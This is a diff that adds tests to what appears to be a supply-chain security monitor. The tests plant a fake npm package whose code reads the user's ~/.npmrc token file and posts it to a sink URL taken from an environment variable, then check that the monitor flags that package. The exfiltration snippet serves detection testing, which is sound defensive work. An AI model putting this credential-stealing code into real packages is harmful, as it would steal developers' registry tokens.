@@ -243,6 +243,29 @@ describe('without any SDK', () => {
     assert.equal(ran.stderr, '');
   });
 
+  for (const [how, client] of [
+    ['calls back', `(url, body) => fetch(url, { method: 'POST', body })`],
+    ['awaits', `async (url, body) => { await null; await fetch(url, { method: 'POST', body }); }`],
+  ] as const) {
+    it(`a package that lets a function of the app carry a secret away is named: one that it ${how}`, async () => {
+      await using app = await VictimApp.create();
+      app.labels(
+        '1.0.1',
+        `exports.act = async (post) => {
+           const secret = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
+           await post(process.env.SINK, secret);
+         };`,
+      );
+      app.write('client.js', `module.exports = ${client};`);
+      app.write('main.js', `require('labels').act(require('./client.js'));`);
+      const ran = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
+      assert.equal(ran.code, 0, ran.stderr);
+      assert.equal(app.received.length, 1);
+      const alert = app.findings().find(({ level }) => level === 'ALERT');
+      assert.equal(alert?.package.name, 'labels', ran.stderr);
+    });
+  }
+
   it('an exporter of its own serves a collector of the security team', async () => {
     await using app = await VictimApp.create();
     const receiver = await startOtlpReceiver();
